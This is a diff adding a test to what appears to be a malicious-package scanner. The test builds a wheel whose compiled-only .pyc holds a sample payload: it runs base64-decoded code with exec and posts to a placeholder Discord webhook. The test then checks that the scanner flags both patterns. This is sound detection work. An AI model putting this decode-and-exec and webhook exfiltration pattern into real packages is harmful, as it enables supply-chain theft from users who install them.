@@ -100,3 +100,37 @@ def test_a_top_level_package_named_like_a_popular_distribution(tmp_path: Path) -
     }
     own = sdist(tmp_path, "requests", {"src/requests/__init__.py": "", "tests/six/__init__.py": ""})
     assert "shadows-popular-package" not in high(run_exam(own, Config()))
+
+
+def test_compiled_only_payloads_are_read_from_their_constants(tmp_path: Path) -> None:
+    import importlib.util
+    import marshal
+
+    from builders import zip_bytes
+
+    payload = (
+        "import base64, requests\ndef f(p):\n    exec(base64.b64decode(p))\n"
+        "    requests.post('https://discord.com/api/webhooks/123456789012345678/' + 'a' * 40)\n"
+    )
+    pyc = importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(compile(payload, "m.py", "exec"))
+    wheel = write(
+        tmp_path / "carrier-1.0-py3-none-any.whl",
+        zip_bytes(
+            {
+                "carrier-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: carrier\n",
+                "carrier/__init__.py": "from .m import f\n",
+                "carrier/m.pyc": pyc,
+            }
+        ),
+    )
+    found = high(run_exam(wheel, Config()))
+    assert found.get("thr-decoded-exec") == "carrier/m.pyc"
+    assert found.get("thr-exfil-endpoint") == "carrier/m.pyc"
+    honest = (
+        importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(compile("x = 1\n", "h", "exec"))
+    )
+    clean = write(
+        tmp_path / "clean-1.0-py3-none-any.whl",
+        zip_bytes({"clean-1.0.dist-info/METADATA": "Name: clean\n", "clean/h.pyc": honest}),
+    )
+    assert high(run_exam(clean, Config())) == {}
